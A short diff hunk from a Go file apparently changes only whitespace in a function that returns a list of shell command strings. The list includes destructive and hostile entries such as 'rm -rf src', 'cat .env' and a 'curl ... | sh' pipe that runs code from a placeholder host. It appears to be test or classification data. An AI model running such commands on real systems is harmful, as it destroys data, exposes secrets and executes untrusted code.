@@ -214,4 +214,3 @@ func (b *book) commands() []string {
 	}
 	return append(out, "rm -rf src", "git push --force", "cat .env", "npm publish", "git status", "curl -s https://example.com/x | sh")
 }
-
